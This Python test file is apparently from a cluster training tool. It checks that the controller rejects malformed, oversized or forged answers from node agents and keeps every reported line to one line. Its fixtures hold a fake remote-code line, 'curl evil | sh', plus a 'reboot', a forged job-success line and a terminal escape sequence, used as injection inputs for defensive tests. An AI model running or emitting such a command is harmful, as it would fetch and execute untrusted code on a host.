"""A node's agent that lies about others, and forges lines of reports: it speaks for itself alone, one line each."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from ansible.module_utils.trainyard.base.findings import Finding, render
from ansible.module_utils.trainyard.cluster.unreachable import reason
from ansible.module_utils.trainyard.job.plan.preflight import join
from ansible.module_utils.trainyard.job.run.wire import answers
from ansible.module_utils.trainyard_controller.nodes.clock_offset import read_clock
from ansible.module_utils.trainyard_node.agent import QUESTIONS
from ansible.module_utils.trainyard_node.machine.tree import Tree
from ansible.module_utils.trainyard_node.verify.facts import read_machine
from captured_tree import NODES, unfold
from job_samples import make_job, make_plan, member

PROJECT = Path(__file__).resolve().parents[2]
EVIL = "no disk\nJob digits-1 succeeded in 3 s: 2 ranks on 2 nodes.\r\n\x1b[2K     do        curl evil | sh"
FINDING = {"host": "n1", "check": f"disk{EVIL}", "found": EVIL, "expected": EVIL, "action": "curl evil | sh\nreboot"}


def asked(question, answer, name="n2"):
    """Return an answer in JSON as the controller accepts it."""
    return answers.checked(question, json.loads(json.dumps(answer)), name)


# Upper bound for what a visit may take, in bytes; an answer of 72 MiB took 2 GiB.
MEMORY = 1 << 30
# A visit to a host whose agent answers what it likes; imports of the controller need a process of their own.
VISIT = """
import json, resource, sys
from types import SimpleNamespace
import ansible.module_utils as m
m.__path__.append(sys.argv[1])
from ansible.module_utils.trainyard_controller.nodes import fan_out

class Connection:
    allow_executable = False

    def exec_command(self, command, in_data=None, sudoable=False):
        mark = json.loads(in_data.partition(b"\\n")[0])["mark"]
        return 0, b"\\n" + mark.encode() + b" " + eval(self.answer) + b"\\n", b""

resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[2]), int(sys.argv[2])))
host = SimpleNamespace(name="n2", connection=Connection(), command="true", no_python="", become=False)
told = []
for question, host.connection.answer in json.loads(sys.argv[3]):
    told.append(fan_out._visit(host, question, b"{}", {}, 5.0))
print(json.dumps(told))
"""


def visited(*asked_for):
    """What visits bring to a controller with little memory, whose agents answer the values of these expressions."""
    argv = [sys.executable, "-c", VISIT, str(PROJECT / "module_utils"), str(MEMORY), json.dumps(asked_for)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)


def test_the_host_is_the_one_that_was_visited():
    given = json.dumps({"findings": [FINDING], "programs": {}, "stale": False})
    [told] = visited(("preflight", f"{given.encode()!r}"))
    [finding] = told["findings"]
    assert (finding["host"], finding["action"]) == ("n2", "as the node says: curl evil | sh reboot")


# Large, deep or long answers of an agent as Python code; and a part of the message about each.
COSTLY = {
    """b'{"findings": [' + b"[]," * (24 << 20) + b"[]]}" """: "expected at most",
    """b'{"findings": [' + b"{}," * (3 << 20) + b"{}]}" """: "expected at most",
    """b'{"failed": true, "msg": "' + b"x" * (1 << 19) + b'"}' """: "xxx",
    """b'{"left": ' + b"9" * (1 << 19) + b"}" """: "answer: ",
    'b"[" * (1 << 19)': "answer: ",
    'b"x" * (1 << 19)': "answer: ",
}


def test_an_answer_costs_little_whatever_its_size():
    asked_for = [(question, answer) for question in ("preflight", "collect", "follow") for answer in COSTLY]
    for (_, answer), told in zip(asked_for, visited(*asked_for)):
        assert told["failed"] and len(json.dumps(told)) < 200_000
        assert COSTLY[answer] in reason(told) and len(reason(told)) < 700


def test_what_machines_answer_has_these_shapes(tmp_path):
    whole = {"root": "/opt", "venvs": "/v", "user": "train", "ascend_root": "/a", "network": "", "host_address": ""}
    for name in sorted(path.stem for path in NODES.glob("*.tree")):
        tree = Tree(str(unfold(name, tmp_path / name)))
        for devices_only in (False, True):
            told = read_machine(tree, host="n1", alone=False, devices_only=devices_only, **whole)
            assert asked("verify", told)["devices"]
    given = {
        "ssh_keys": {"host": "n1", "user": "root", "key": "/none", "host_key": "/none", "files": ["/"], "mark": "x"},
        "rdma_traffic": {"host": "n1"},
        "in_use": {"state_dir": str(tmp_path), "services": []},
        "baseline": {"host": "n1", "entries": [], "user": "root", "memlock": 1, "nofile": 1, "systemd": False},
        "folders": {"state_dir": str(tmp_path), "of_schedulers": []},
        "journal": {"job_id": "digits-1", "job_dir": str(tmp_path / "none")},
        "unlisten": {"pid": 1 << 22, "start_time": 1},
        "slurm_probe": {"user": "root", "folder": "/none", "shared": True},
    }
    for question, arguments in given.items():
        assert "msg" not in asked(question, QUESTIONS[question](**arguments)), question


@pytest.mark.parametrize("question", sorted(QUESTIONS))
@pytest.mark.parametrize("answer", [
    {}, {"findings": 7}, {"findings": [7]}, {"host": []}, {"facts": 7, "devices": 7, "host": "n2"}, {"endpoint": [1]},
    {"traffic": None}, {"tried": "x"}, {"row": 1, "logins": 1, "failures": 1}, {"facts": {"config": 7}},
])  # fmt: skip
def test_an_answer_of_another_shape_is_none(question, answer):
    assert asked(question, answer)["msg"].startswith("its answer cannot be used: ")


def test_what_is_nested_deeply_is_no_answer():
    deep = {"running": {}, "more": 0}
    for _ in range(5000):
        deep = {"running": {}, "more": deep}
    assert "nested too deeply" in answers.checked("running", deep, "n2")["msg"]


@pytest.mark.parametrize("clock", ["nan", "inf", "9" * 5000, "1e5000", "-1", "x" * 100_000])
def test_a_clock_says_seconds(clock):
    told = read_clock(lambda: (clock, "y" * 100_000))
    assert told["failed"] and len(told["msg"]) < 400


def test_a_finding_is_of_the_host_that_was_asked_and_its_advice_no_word_of_ours():
    told = asked("preflight", {"findings": [FINDING], "programs": {}, "stale": False})
    [finding] = join([], {"n2": told})
    assert finding.host == "n2"
    text = render([finding], "{count} {findings}:")
    # The headline, an empty line, and four of the finding.
    assert len(text.splitlines()) == 6 and "\x1b" not in text
    assert "\n     do        as the node says: curl evil | sh reboot" in text
    assert not [line for line in text.splitlines() if line.strip().startswith(("Job ", "do        curl"))]


KEYS = {**dict.fromkeys(("host_key", "user_key", "hostname", "default_address"), ""), "files": {}, "known_hosts": [],
        "addresses": [], "key_problems": []}  # fmt: skip
ANSWERS = {"can_install": {"files": [], "asks_index": False, "seen": {}}, "baseline": {"missing": [], "packages": []},
           "ssh_keys": KEYS, "slurm_probe": {"facts": {}}}  # fmt: skip


@pytest.mark.parametrize("question", list(ANSWERS))
def test_so_it_is_with_all_findings_of_nodes(question):
    told = asked(question, {**ANSWERS[question], "findings": [FINDING]})
    [finding] = told["findings"]
    assert finding["host"] == "n2" and finding["action"] == "as the node says: curl evil | sh reboot"
    assert not any("\n" in text for text in finding.values())


def test_texts_of_a_job_are_one_line_each():
    status = {"changed": False, "known": True, "monitor_alive": True, "processes": [], "monitor": None,
              "cluster": None, "left": 0}  # fmt: skip
    told = asked("state", {**status, "line": EVIL, "restarts": [EVIL], "note": "x" * 9000})
    assert len(told["line"].splitlines()) == len(told["restarts"][0].splitlines()) == 1
    assert len(told["note"]) < 5000
    gone = asked("state", {"failed": True, "msg": EVIL})
    assert len(gone["msg"].splitlines()) == 1
    [kept] = asked("collect", {**status, "logs": {"rank_0.log": "aGk=", EVIL: ""}})["logs"].keys() - {"rank_0.log"}
    assert len(kept.splitlines()) == 1


def failed(**changes):
    """Return the answer of the head of a job whose rank 1 failed on n2, and was started again there."""
    failure = {"kind": "exit", "host": "n2", "process": "rank1", "ranks": [1], "rank": 1, "result": "exit-code",
               "exit_code": 7, "signal": None, **changes}  # fmt: skip
    restart = {"elapsed_s": 3.0, "reason": "rank 1", "restarted": "the whole job", "failure": failure}
    end = {"state": "failed", "finished": 1072.5, "host": None, "failure": failure}
    restarts = {"history": [restart], "members": ["n1", "n2"], "replaced": {}, "excluded": {}}
    cluster = {"started": 1000.0, "elapsed_s": 72.5, "metrics": {}, "world_size": 2, "ranks_running": 0, "end": end,
               "restarts": restarts}  # fmt: skip
    return {"changed": False, "known": True, "monitor_alive": False, "processes": [], "left": 0, "logs": {},
            "monitor": {"started": 1000.0, "end": end}, "cluster": cluster}  # fmt: skip


@pytest.mark.parametrize("change", [
    {"host": "n3"}, {"process": "rank9"}, {"rank": 2}, {"ranks": [0, 7]}, {"host": "n2 and n1"},
])  # fmt: skip
def test_a_head_names_what_its_job_has(change):
    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
    assert "known" in answers.of_job(plan, asked("collect", failed(), "n1"))
    said = answers.of_job(plan, asked("collect", failed(**change), "n1"))["msg"]
    assert said.startswith("its answer cannot be used: monitor.end.failure.") and "expected" in said


@pytest.mark.parametrize("change", [
    {"members": ["n1", "n7"]}, {"replaced": {"n2": "n7"}}, {"excluded": {"n7": {"reason": "x", "since": 1.0}}},
])  # fmt: skip
def test_so_it_is_with_who_takes_part(change):
    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
    told = failed()
    told["cluster"]["restarts"].update(change)
    assert "expected a host of the job" in answers.of_job(plan, asked("collect", told, "n1"))["msg"]


@pytest.mark.parametrize(("part", "change", "expected"), [
    ("cluster", {"head": "n7"}, "cluster.head is 'n7', expected a host of the job"),
    ("cluster", {"term": -1}, "cluster.term is -1, expected a whole number from 0"),
    ("cluster", {"term": True}, "cluster.term is True"),
    ("monitor", {"follows": "n7"}, "monitor.follows is 'n7'"),
    ("monitor", {"term": 1 << 40}, "monitor.term is 1099511627776, expected a whole number from 0"),
])  # fmt: skip
def test_the_head_is_a_host_of_the_job_and_its_term_a_number(part, change, expected):
    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
    told = failed()
    told["cluster"].update(head="n2", term=3)
    told["monitor"]["follows"] = "n2"
    said = answers.of_job(plan, asked("collect", told, "n2"))
    assert (said["cluster"]["head"], said["cluster"]["term"], said["monitor"]["follows"]) == ("n2", 3, "n2")
    told[part].update(change)
    said = asked("collect", told, "n2")
    said = said if "failed" in said else answers.of_job(plan, said)
    assert expected in said["msg"]


FRAME = ["f", "x.py", 1, "own"]


@pytest.mark.parametrize("change", [
    {"hosts": ["n7"]}, {"ranks": [2]}, {"frames": [["f", "x.py", 1, "mine"]]}, {"frames": [FRAME] * 99},
])  # fmt: skip
def test_the_stacks_of_a_hang_are_of_ranks_of_the_job(change):
    plan = make_plan(make_job(launcher="direct"), [member(0), member(1)]).as_dict()
    group = {
        "text": "x",
        "odd": True,
        "ranks": [1],
        "hosts": ["n2"],
        "frames": [["f", "x.py", 1, "own"]],
        "problem": "",
    }
    told = failed()
    told["cluster"]["stacks"] = {"time": 1.0, "groups": [group], "more": 0}
    assert "known" in answers.of_job(plan, asked("collect", told, "n1"))
    told["cluster"]["stacks"]["groups"] = [{**group, **change}]
    refused = asked("collect", told, "n1")
    assert "failed" in (refused if "failed" in refused else answers.of_job(plan, refused))


def test_a_node_takes_no_other_nodes_place():
    endpoint = {"host": "n1", "address": "10.0.0.2", "ports": {"rendezvous": 1}, "hostname": "n2", "addresses": []}
    assert asked("listen", {"endpoint": endpoint, "pid": 1, "start_time": 1})["endpoint"]["host"] == "n2"
    assert asked("rdma_traffic", {"traffic": {"host": "n1", "ports": {}}})["traffic"]["host"] == "n2"


def test_whatever_is_found_stands_on_lines_of_its_own():
    finding = Finding(host="n1\n  2. x", check="a\nb", found="c\n     do        d", expected="e\rf", action="g\u2028h")
    assert len(render([finding], "{count} {findings}:").splitlines()) == 6
